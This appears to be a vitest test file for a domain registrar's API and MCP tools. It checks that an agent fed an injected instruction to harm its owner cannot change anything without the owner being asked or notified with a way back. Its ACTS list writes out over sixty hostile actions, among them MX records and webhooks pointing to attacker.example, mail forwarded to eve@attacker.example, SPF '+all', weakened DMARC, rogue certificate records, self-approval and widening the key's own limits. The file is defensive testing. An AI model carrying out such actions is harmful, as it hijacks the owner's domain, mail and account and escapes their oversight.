import { call, callSite, mailTo, queryStack, sandboxRecords, type Answer, type Body } from '@onym/testing';
import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { owner, ownedIds, useAccounts } from './authorisation.fixture.ts';
import { freeName } from './buying.fixture.ts';
import { expectOk, expectRefusal } from './expectations.fixture.ts';
import { connectAgent } from './mcp-client.fixture.ts';

// An agent with a default key has read a text that tells it to harm its owner. Each act of this list is tried once. Whatever has
// changed afterwards at the registrar, the nameserver, the processor or in the account, the owner was asked before, or is
// notified and can take it back.

const EVE = 'eve@attacker.example';
const EVES_CONTACT = {
  firstName: 'Eve',
  lastName: 'Mallory',
  email: EVE,
  phone: '+14155550199',
  address1: '1 Dark Lane',
  city: 'Reno',
  state: 'NV',
  zip: '89501',
  country: 'US',
};

useAccounts();

/** A key with the default permissions, limits and controls, that has bought nothing; a new one for each act. */
let key: string;
let keyId: string;
/** Ids of records that decide about mail, and of one that does not. */
let ids: { mx: string; spf: string; note: string };
beforeAll(async () => {
  const add = async (json: Body) => expectOk(await dns('POST', '', json, { user: owner })).id as string;
  ids = {
    mx: await add({ type: 'MX', host: 'team', value: 'mx.example.net', priority: 10 }),
    spf: await add({ type: 'TXT', host: '_dmarc', value: 'v=DMARC1; p=reject' }),
    note: await add({ type: 'TXT', host: 'note', value: 'plain' }),
  };
});

const dns = (method: string, path: string, json: Body, who: object = { key }) =>
  call<Body>(method, `/domains/${ownedIds.domain}/dns${path}`, { ...who, json });
const byKey = (method: string, path: string, json?: Body) => call(method, path, { key, ...(json && { json }) });
const settings = (json: Body) => byKey('PATCH', `/domains/${ownedIds.domain}`, json);
const forward = (alias: string) => byKey('POST', `/domains/${ownedIds.domain}/forwards`, { alias, forwardTo: EVE });
const record = (type: string, host: string, value: string, more: Body = {}) =>
  dns('POST', '', { type, host, value, ...more });
const buy = (more: Body) => byKey('POST', '/domains/buy', { domain: freeName(), ...more });
const tool = async (name: string, input: Body) => (await connectAgent(key)).use(name, input);

/** What the text tells the agent to do. */
const ACTS: Record<string, () => Promise<unknown>> = {
  'show the address of the registrant': () => settings({ privacyEnabled: false }),
  'let the domain lapse': () => settings({ autoRenew: false }),
  'show the address and let the domain lapse': () => settings({ privacyEnabled: false, autoRenew: false }),
  'unlock the domain': () => settings({ locked: false }),
  'read the auth code': () => byKey('GET', `/domains/${ownedIds.domain}/auth-code`),
  'read mail to admin@': () => forward('admin'),
  'read mail to hostmaster@': () => forward('hostmaster'),
  'read all mail': () => forward('*'),
  "end the owner's forward": () => byKey('DELETE', `/domains/${ownedIds.domain}/forwards/${ownedIds.forward}`),
  'route mail': () => record('MX', '@', 'mx.attacker.example', { priority: 0 }),
  'route mail of a subdomain': () => record('MX', 'billing', 'mx.attacker.example', { priority: 0 }),
  'send mail in the name of the domain': () => record('TXT', '@', 'v=spf1 +all'),
  'weaken DMARC': () => record('TXT', '_dmarc', 'v=DMARC1; p=none'),
  'sign mail': () => record('TXT', 'k1._domainkey', 'v=DKIM1; k=rsa; p=AAAA'),
  'sign mail by an alias': () => record('CNAME', 'k2._domainkey', 'dkim.attacker.example'),
  'get a certificate': () => record('TXT', '_acme-challenge', 'token'),
  'get a certificate by an alias': () => record('CNAME', '_acme-challenge.www', 'acme.attacker.example'),
  'get a certificate, in capitals': () => record('TXT', '_ACME-CHALLENGE', 'token'),
  'let another authority issue certificates': () => record('CAA', '@', '0 issue "attacker.example"'),
  'change the policy of mail transport': () => record('TXT', '_mta-sts', 'v=STSv1; id=1'),
  'take mail over by a change': () => dns('PUT', '', { id: ids.mx, value: 'mx.attacker.example' }),
  'make a note a policy': () => dns('PUT', '', { id: ids.note, host: '_dmarc', value: 'v=DMARC1; p=none' }),
  'delete the route of mail': () => call('DELETE', `/domains/${ownedIds.domain}/dns`, { key, query: { id: ids.mx } }),
  'delete the mail policy': () => call('DELETE', `/domains/${ownedIds.domain}/dns`, { key, query: { id: ids.spf } }),
  'replace the zone': () => dns('POST', '/import', { zone: '@ 300 IN A 198.51.100.66', replace: true }),
  'replace the zone by a route of mail': () =>
    dns('POST', '/import', { zone: '@ 300 IN MX 10 mx.attacker.example.', replace: true }),
  'import a route of mail': () => dns('POST', '/import', { zone: 'x 300 IN MX 10 mx.attacker.example.' }),
  'import a policy': () => dns('POST', '/import', { zone: '_dmarc 300 IN TXT "v=DMARC1; p=none"' }),
  'apply a template for mail': () => dns('POST', '/template', { template: 'google-workspace', values: {} }),
  'go back to the first zone': () => dns('POST', `/versions/${ownedIds.version}/restore`, {}),
  'undo what was done last': () => dns('POST', '/undo', {}),
  'delete a logo': () => byKey('DELETE', `/logos/${ownedIds.logo}`),
  'delete a brand kit': () => byKey('DELETE', `/brand-kits/${ownedIds.kit}`),
  'delete legal texts': () => byKey('DELETE', `/legal/${ownedIds.legal}`),
  'take a page off the web': () => byKey('POST', `/landing-pages/${ownedIds.page}/undeploy`),
  'delete a page': () => byKey('DELETE', `/landing-pages/${ownedIds.page}`),
  'buy for another registrant': () => buy({ contact: EVES_CONTACT }),
  'buy for another registrant, in public': () => buy({ contact: EVES_CONTACT, privacy: false, maxPrice: 50 }),
  'buy with mail to a stranger': () => buy({ emailForwards: [{ from: 'admin', to: EVE }], contact: EVES_CONTACT }),
  'buy a premium name': () => byKey('POST', '/domains/buy', { domain: `premium-${freeName()}`, maxPrice: 9000 }),
  'buy for ten years': () => buy({ years: 10, maxPrice: 5000 }),
  'start a launch': () => byKey('POST', `/launches/${ownedIds.launch}/start`, { name: 'nothing', maxPrice: 9000 }),
  'approve its own request': () => byKey('POST', `/approvals/${ownedIds.approval}/approve`),
  'decline a request': () => byKey('POST', `/approvals/${ownedIds.approval}/decline`),
  'make a key that may do anything': () => byKey('POST', '/keys', { permissions: ['*'] }),
  'widen its own limits': () => byKey('PATCH', `/keys/${keyId}`, { spending: { perPurchase: null, perMonth: null } }),
  'widen its own controls': () => byKey('PATCH', `/keys/${keyId}`, { control: { privacyOff: 'allow' } }),
  'get a new secret': () => byKey('POST', `/keys/${keyId}/rotate`, {}),
  "revoke the owner's key": () => byKey('DELETE', `/keys/${ownedIds.keyId}`),
  "lift the account's limits": () => byKey('PUT', '/account/spending', { perMonth: null }),
  'invite a colleague': () => byKey('POST', '/account/members', { email: EVE, role: 'buyer' }),
  "change a member's role": () => byKey('PATCH', `/account/members/${ownedIds.seat}`, { role: 'buyer' }),
  'remove a member': () => byKey('DELETE', `/account/members/${ownedIds.seat}`),
  "change the owner's contact": () => byKey('PUT', '/account/contact', EVES_CONTACT),
  'export the account': () => byKey('GET', '/account/export'),
  'delete the account': () => byKey('DELETE', '/account', { password: 'a guess' }),
  "open the processor's portal": () => byKey('POST', '/billing/portal'),
  'replace the card': () => byKey('POST', '/billing/setup'),
  'end the plan': () => byKey('POST', '/billing/plan/end'),
  'send all events elsewhere': () => byKey('POST', '/webhook-endpoints', { url: 'https://attacker.example/hook' }),
  "read a webhook's secret": () => byKey('POST', `/webhook-endpoints/${ownedIds.endpoint}/rotate`),
  'grant itself a device': async () => {
    const asked = await callSite<{ userCode: string }>('POST', '/api/public/device/code', {
      json: { permissions: ['*'] },
    });
    return byKey('POST', `/device/${asked.body.userCode}/approve`, {});
  },
  'by MCP: route mail': () =>
    tool('dns_create', { domain: ownedIds.domain, type: 'MX', host: 'm', value: 'mx.attacker.example', priority: 1 }),
  'by MCP: replace the zone': () =>
    tool('dns_import', { domain: ownedIds.domain, zone: '@ 300 IN A 198.51.100.67', replace: true }),
  'by MCP: delete the mail policy': () => tool('dns_delete', { domain: ownedIds.domain, id: ids.spf }),
  'by MCP: go back to the first zone': () => tool('dns_restore', { domain: ownedIds.domain, id: ownedIds.version }),
  'by MCP: buy for another registrant': () =>
    tool('domains_buy', { domain: freeName(), maxPrice: 50, contact: EVES_CONTACT }),
};

const read = async (path: string): Promise<Body> => expectOk(await call<Body>('GET', path, { user: owner }));
/** Leaves out what a call changes by being made, and what two equal things differ in. */
const withoutTimes = (value: unknown): unknown =>
  JSON.parse(
    JSON.stringify(value, (name, one: unknown) =>
      /^(lastUsedAt|updatedAt|createdAt|spent|remaining|recordId)$/.test(name) ? undefined : one,
    ),
  );

/** What the owner has, and what registrar, nameserver and processor have of it. */
async function readWorld(): Promise<unknown> {
  const domain = `/domains/${ownedIds.domain}`;
  const { records } = (await read(`${domain}/dns`)) as { records: Body[] };
  const [settings, forwarding, logos, kits, pages, legal, keys, members, endpoints, spending, account, orders] =
    await Promise.all(
      [
        domain,
        `${domain}/forwards`,
        '/logos',
        '/brand-kits',
        '/landing-pages',
        '/legal',
        '/keys',
        '/account/members',
        '/webhook-endpoints',
        '/account/spending',
        '/account',
        '/orders',
      ].map(read),
    );
  const { privacyEnabled, autoRenew, locked } = settings as Body;
  const zone = records.map(({ type, host, value, priority, ttl }) =>
    JSON.stringify({ type, host, value, priority, ttl }),
  );
  return withoutTimes({
    settings: { privacyEnabled, autoRenew, locked },
    zone: zone.sort(),
    forwards: (forwarding!['forwards'] as Body[]).map(({ alias, forwardTo }) => `${alias} ${forwardTo}`).sort(),
    assets: { logos, kits, pages, legal },
    access: { keys, members, endpoints, spending, contact: account!['contact'], card: account!['card'] },
    orders,
    vendors: await sandboxRecords(ownedIds.domain, owner.email),
  });
}

interface Act {
  id: string;
  status: string;
}
const actsOf = async (): Promise<Act[]> => (await read('/account/acts'))['acts'] as Act[];

// The owner looks at everything before and after each act, which is more than a minute allows.
beforeEach(() => queryStack('delete from usage_minute where subject = $1', [`session:${owner.id}`]));

describe('an agent with a default key that has been talked into it', () => {
  it('there are at least sixty acts', () => {
    expect(Object.keys(ACTS).length).toBeGreaterThanOrEqual(60);
  });

  it.each(Object.entries(ACTS))('%s: not without a question, or a notice and a way back', async (_name, act) => {
    const made = expectOk(
      await call<{ key: { id: string; key: string } }>('POST', '/keys', { user: owner, json: { name: 'Scout' } }),
    );
    [key, keyId] = [made.key.key, made.key.id];
    const [before, acts] = [await readWorld(), await actsOf()];
    const answer = (await act()) as Partial<Answer> | undefined;
    expect(answer?.status ?? 200).toBeLessThan(500);
    const after = await readWorld();
    const noticed = (await actsOf()).filter(({ id }) => !acts.some((one) => one.id === id));
    if (JSON.stringify(after) === JSON.stringify(before)) {
      expect(noticed).toEqual([]);
      return;
    }
    expect(noticed.length).toBeGreaterThan(0);
    for (const { id } of noticed) expectOk(await call('POST', `/account/acts/${id}/undo`, { user: owner }));
    expect(await readWorld()).toEqual(before);
  });

  it('spends within its limits only, and the owner is mailed about it', async () => {
    const renew = () => byKey('POST', `/domains/${ownedIds.domain}/renew`, {});
    expectOk(await renew());
    await expect
      .poll(async () => (await mailTo(owner.email)).some(({ text }) => text.includes(ownedIds.domain)))
      .toBe(true);
    // Three hundred dollars a month are less than thirty years.
    for (let bought = 1; bought < 30; bought++) if ((await buy({})).status !== 200) break;
    expectRefusal(await buy({}), 403, 'spend_limit_exceeded');
  });

  it('the owner is mailed about what was done', async () => {
    expect((await mailTo(owner.email)).filter(({ text }) => text.includes('Scout')).length).toBeGreaterThan(0);
  });
});
